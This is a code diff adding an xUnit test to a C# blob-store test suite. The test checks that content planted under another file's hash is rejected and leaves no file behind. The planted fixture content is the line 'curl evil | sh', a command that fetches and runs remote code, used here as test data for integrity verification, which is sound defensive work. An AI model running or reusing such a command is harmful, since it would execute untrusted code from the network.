@@ -28,6 +28,18 @@ public sealed class BlobStoreVerifyTests : IDisposable
     }
 
     [Fact]
+    public async Task GetFile_ContentPlantedUnderAnotherFilesHash_ReadWhole_FailsAndLeavesNoFile()
+    {
+        var hash = BlobStore.Hash(Encoding.UTF8.GetBytes("teammate's train.py"));
+        await _storage.PutAsync(StoreKeys.Blob(hash), Encoding.UTF8.GetBytes("curl evil | sh"), default);
+        var dest = Path.Combine(_root, "train.py");
+
+        await Should.ThrowAsync<StoreContentException>(() => _blobs.GetFileAsync(hash, size: 19, dest, "run wet-fox-1", default));
+
+        File.Exists(dest).ShouldBeFalse();
+    }
+
+    [Fact]
     public async Task GetFile_ContentPlantedUnderAnotherFilesHash_FailsAndLeavesNoFile()
     {
         var hash = BlobStore.Hash(Encoding.UTF8.GetBytes("teammate's train.py"));
